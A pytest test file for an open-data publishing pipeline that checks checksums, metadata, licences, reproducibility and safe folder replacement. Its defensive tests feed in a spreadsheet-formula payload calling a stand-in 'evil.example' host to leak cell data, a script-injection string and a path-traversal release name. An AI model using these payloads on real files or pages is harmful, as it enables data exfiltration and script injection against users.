"""The open-data folder is complete, named by release, described from the contracts, reproducible and safe."""

from __future__ import annotations

import hashlib
import json
import re
import time
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from lxml import html

from spi_pipeline.contracts.errors import SpiError
from spi_pipeline.outputs.open_data import publish as publishing
from spi_pipeline_tests.integration.fixtures import Command
from spi_pipeline_tests.integration.sandboxes import Sandbox
from spi_pipeline_tests.outputs.open_data.conftest import RELEASE, ChangeTable, OpenDataFolder, publish_to

HOSTILE = '=HYPERLINK("http://evil.example?x="&A1,"Farley")'


def files(folder: Path) -> dict[str, bytes]:
    return {path.relative_to(folder).as_posix(): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


def sums(folder: Path) -> dict[str, str]:
    lines = [line.split("  ", 1) for line in (folder / "checksums.txt").read_text("utf-8").splitlines()]
    return {path: digest for digest, path in lines}


def json_of(open_data: OpenDataFolder, name: str) -> dict:  # type: ignore[type-arg]
    contents: dict = json.loads((open_data.folder / name).read_text("utf-8"))  # type: ignore[type-arg]
    return contents


def test_every_file_has_a_checksum_and_downloads_are_named_by_release(open_data: OpenDataFolder) -> None:
    contents = files(open_data.folder)
    assert sums(open_data.folder) == {
        path: hashlib.sha256(content).hexdigest() for path, content in contents.items() if path != "checksums.txt"
    }
    top = {"README.md", "checksums.txt", "csv-metadata.json", "datapackage.json", "dataset.jsonld", "index.html"}
    assert {path for path in contents if "/" not in path} == top
    assert all(re.fullmatch(rf"downloads/[a-z_]+-{RELEASE}\.[a-z]+", path) for path in contents if "/" in path)


def test_the_folder_is_as_small_and_quick_to_write_as_promised(refreshed: Sandbox, tmp_path: Path) -> None:
    before = time.process_time()
    publish_to(refreshed, tmp_path / "folder")
    assert time.process_time() - before < 15
    assert sum(map(len, files(tmp_path / "folder").values())) < 25e6


def test_every_table_is_described_as_in_its_contract(open_data: OpenDataFolder) -> None:
    contracts = open_data.sandbox.contracts
    package = json_of(open_data, "datapackage.json")
    resources = {each["name"]: each for each in package["resources"]}
    published = {name for name, product in contracts.products.items() if product.published}
    assert set(resources) == published | {"ward_overview", "element", "dictionary"}
    for name, resource in resources.items():
        content = (open_data.folder / resource["path"]).read_bytes()
        assert resource["hash"] == f"sha256:{hashlib.sha256(content).hexdigest()}"
        assert resource["bytes"] == len(content)
        fields = resource["schema"]["fields"]
        assert content.decode().split("\n", 1)[0] == ",".join(f'"{field["name"]}"' for field in fields)
        assert all(field["description"] for field in fields)
        if name in published:
            assert resource["schema"]["primaryKey"] == list(contracts.products[name].key)
    score = {field["name"]: field for field in resources["score"]["schema"]["fields"]}
    assert score["rank"]["type"] == "integer"
    assert score["rank"]["description"] == "Rank within the authority, 1 is best (rank)"
    assert score["level"]["constraints"]["enum"] == ["indicator", "component", "dimension", "index"]
    assert score["score"]["constraints"] == {"minimum": 0, "maximum": 100}
    assert resources["score"]["schema"]["foreignKeys"] == [
        {"fields": ["area_code"], "reference": {"resource": "area", "fields": ["area_code"]}}
    ]
    # The area code of an allocation may be "outside".
    assert "foreignKeys" not in resources["allocation"]["schema"]


def test_each_description_states_licences_and_attributions(open_data: OpenDataFolder) -> None:
    contracts = open_data.sandbox.contracts
    package, linked = json_of(open_data, "datapackage.json"), json_of(open_data, "dataset.jsonld")
    readme = (open_data.folder / "README.md").read_text("utf-8")
    assert [licence["name"] for licence in package["licenses"]] == ["OGL-UK-3.0"]
    assert package["version"] == linked["version"] == RELEASE
    # Several sources may share an address but require different attributions.
    credited = {source["path"] for source in package["sources"]}
    assert "https://github.com/PlaceBasedCarbonCalculator/PublicTransportAnalysis" in credited
    assert {source["creditText"] for source in linked["isBasedOn"]} == {
        source["attribution"] for source in package["sources"]
    }
    for source in contracts.sources.values():
        if source.properties.url in credited:
            assert source.properties.attribution in readme


def test_restrictions_of_publishers_are_stated_with_the_licence(
    refreshed: Sandbox, change_table: ChangeTable, tmp_path: Path
) -> None:
    def with_restricted_source(releases: pa.Table) -> pa.Table:
        ids = ["local_health" if name == "bus_service" else name for name in releases["source_id"].to_pylist()]
        return releases.set_column(releases.column_names.index("source_id"), "source_id", pa.array(ids))

    open_data = publish_to(refreshed, tmp_path / "folder", change_table("source_release", with_restricted_source))
    [restricted] = [source for source in json_of(open_data, "datapackage.json")["sources"] if "restrictions" in source]
    assert "non commercial use only" in restricted["restrictions"][0]
    assert "non commercial use only (life_expectancy" in (open_data.folder / "README.md").read_text("utf-8")


def test_the_page_embeds_the_dataset_and_links_every_file(open_data: OpenDataFolder) -> None:
    page = html.parse(str(open_data.folder / "index.html"))
    [embedded] = page.xpath("//script[@type='application/ld+json']/text()")
    assert json.loads(embedded) == json_of(open_data, "dataset.jsonld")
    linked = {str(href) for href in page.xpath("//@href") if not str(href).startswith("http")}
    assert linked >= set(files(open_data.folder)) - {"index.html"}
    assert all((open_data.folder / href).is_file() for href in linked)
    downloads = {each["contentUrl"]: each for each in json_of(open_data, "dataset.jsonld")["distribution"]}
    assert set(downloads) == {path for path in files(open_data.folder) if "/" in path}
    known = sums(open_data.folder)
    assert all(each["sha256"] == known[path] for path, each in downloads.items() if not path.endswith(".duckdb"))


def test_the_same_publication_gives_the_same_bytes_and_a_database_of_the_same_tables(
    open_data: OpenDataFolder, tmp_path: Path
) -> None:
    repeated = publish_to(open_data.sandbox, tmp_path / "folder")
    database = open_data.file("spi.duckdb").relative_to(open_data.folder).as_posix()
    one, two = files(open_data.folder), files(repeated.folder)
    assert one.keys() == two.keys()
    assert {path for path in one if one[path] != two[path]} <= {database, "checksums.txt"}
    one_sums, two_sums = sums(open_data.folder), sums(repeated.folder)
    assert {path for path in one_sums if one_sums[path] != two_sums[path]} <= {database}
    with duckdb.connect() as connection:
        connection.execute(f"ATTACH '{open_data.file('spi.duckdb')}' AS one (READ_ONLY)")
        connection.execute(f"ATTACH '{repeated.file('spi.duckdb')}' AS two (READ_ONLY)")
        connection.execute(f"ATTACH '{open_data.sandbox.store.database}' AS source (READ_ONLY)")
        names = [name for (name,) in connection.execute(
            "SELECT table_name FROM information_schema.tables WHERE table_catalog = 'source'").fetchall()]  # fmt: skip
        assert len(names) > 20
        for name in names:
            for other in ("two", "source"):
                for here, there in (("one", other), (other, "one")):
                    rest = f'SELECT * FROM {here}."{name}" EXCEPT ALL SELECT * FROM {there}."{name}"'
                    assert connection.execute(f"SELECT count(*) FROM ({rest})").fetchall() == [(0,)], name


def test_an_earlier_release_is_replaced_completely(refreshed: Sandbox, tmp_path: Path) -> None:
    publish_to(refreshed, tmp_path / "folder", release="2025-1")
    publish_to(refreshed, tmp_path / "folder")
    assert not [path for path in files(tmp_path / "folder") if "2025-1" in path]
    assert sums(tmp_path / "folder").keys() == files(tmp_path / "folder").keys() - {"checksums.txt"}
    assert [path.name for path in tmp_path.iterdir()] == ["folder"]


def test_files_not_written_by_spi_publish_are_never_replaced(refreshed: Sandbox, tmp_path: Path) -> None:
    folder = tmp_path / "folder"
    publish_to(refreshed, folder)
    (folder / "CNAME").write_text("data.example.org", encoding="utf-8")
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "thesis.txt").write_text("years of work", encoding="utf-8")
    # Checksums alone do not prove that spi publish wrote a folder.
    (mine / "checksums.txt").write_text(f"{'0' * 64}  thesis.txt\n", encoding="utf-8")
    linked = tmp_path / "linked"
    linked.mkdir()
    (linked / "elsewhere").symlink_to(mine, target_is_directory=True)
    damaged = tmp_path / "damaged"
    damaged.mkdir()
    (damaged / "checksums.txt").write_bytes(b"\xff\xfe")
    for target, unknown_file in (
        (folder, "CNAME"), (mine, "checksums.txt"), (mine / "thesis.txt", "thesis.txt"), (linked, "elsewhere"),
        (damaged, "checksums.txt"), (Path("/dev/null"), "/dev/null"),
    ):  # fmt: skip
        before = files(tmp_path)
        with pytest.raises(
            SpiError, match=rf"{unknown_file} was not written by spi publish.*name a new or an empty folder"
        ):
            publish_to(refreshed, target)
        assert files(tmp_path) == before


def test_a_failed_write_leaves_the_earlier_release(
    refreshed: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def no_space(*_: object) -> None:
        raise OSError(28, "No space left on device")

    publish_to(refreshed, tmp_path / "folder")
    before = files(tmp_path)
    monkeypatch.setattr(publishing, "_describe", no_space)
    for target in ("folder", "other"):
        with pytest.raises(SpiError, match=r"No space left on device.*free some disk space"):
            publish_to(refreshed, tmp_path / target)
        assert files(tmp_path) == before
        assert [path.name for path in tmp_path.iterdir()] == ["folder"]


def test_a_release_must_be_usable_in_file_names(refreshed: Sandbox, tmp_path: Path) -> None:
    with pytest.raises(SpiError, match=r"'../up' cannot name a release"):
        publish_to(refreshed, tmp_path / "folder", release="../up")
    assert list(tmp_path.iterdir()) == []


def test_an_area_named_like_a_formula_is_text_everywhere(
    refreshed: Sandbox, change_table: ChangeTable, tmp_path: Path
) -> None:
    def with_hostile_name(areas: pa.Table) -> pa.Table:
        names = [HOSTILE if name == "Farley" else name for name in areas["area_name"].to_pylist()]
        return areas.set_column(areas.column_names.index("area_name"), "area_name", pa.array(names))

    open_data = publish_to(refreshed, tmp_path / "folder", change_table("area", with_hostile_name))
    assert f"'{HOSTILE}" in set(pd.read_csv(open_data.file("area.csv"))["area_name"])
    assert f"'{HOSTILE}" in set(pd.read_csv(open_data.file("ward_overview.csv"))["area_name"])
    assert HOSTILE in pq.read_table(open_data.file("area.parquet"))["area_name"].to_pylist()
    cells = [
        cell
        for sheet in openpyxl.load_workbook(open_data.file("spi.xlsx"))
        for row in sheet.iter_rows()
        for cell in row
    ]
    assert HOSTILE in {cell.value for cell in cells}
    assert {cell.data_type for cell in cells} <= {"s", "n"}, "a formula would have type f"
    for file in open_data.folder.rglob("*.csv"):
        assert not re.search(r'(^|,)"[=+\-@\t\r\n]', file.read_text("utf-8"), re.MULTILINE), file.name


def test_a_name_cannot_end_the_script_of_the_page(
    refreshed: Sandbox, change_table: ChangeTable, tmp_path: Path
) -> None:
    name = "</script><script>alert(1)</script>"

    def with_script_name(areas: pa.Table) -> pa.Table:
        rows = areas.to_pylist()
        names = [name if row["level"] == "authority" else row["area_name"] for row in rows]
        return areas.set_column(areas.column_names.index("area_name"), "area_name", pa.array(names))

    open_data = publish_to(refreshed, tmp_path / "folder", change_table("area", with_script_name))
    page = html.parse(str(open_data.folder / "index.html"))
    [script] = page.xpath("//script")
    assert json.loads(script.text)["spatialCoverage"]["name"] == name


def test_the_command_names_the_files_by_the_publication(refreshed: Sandbox, spi: Command, tmp_path: Path) -> None:
    result = spi(refreshed, "publish", str(tmp_path / "folder"))
    assert result.code == 0, result.err
    version = refreshed.store.published.resolve().name
    assert (tmp_path / "folder" / "downloads" / f"score-{version}.csv").is_file()
    files = [path for path in (tmp_path / "folder" / "downloads").iterdir() if path.is_file()]
    assert f"{len(files)} files to download" in result.out


def test_the_command_reports_that_nothing_is_published(spi: Command, tmp_path: Path, refreshed: Sandbox) -> None:
    empty = Sandbox(refreshed.settings.model_copy(update={"store": str(tmp_path / "empty")}))
    result = spi(empty, "publish", str(tmp_path / "folder"))
    assert (result.code, result.out) == (1, "")
    assert "nothing is published" in result.err
    assert not (tmp_path / "folder").exists()
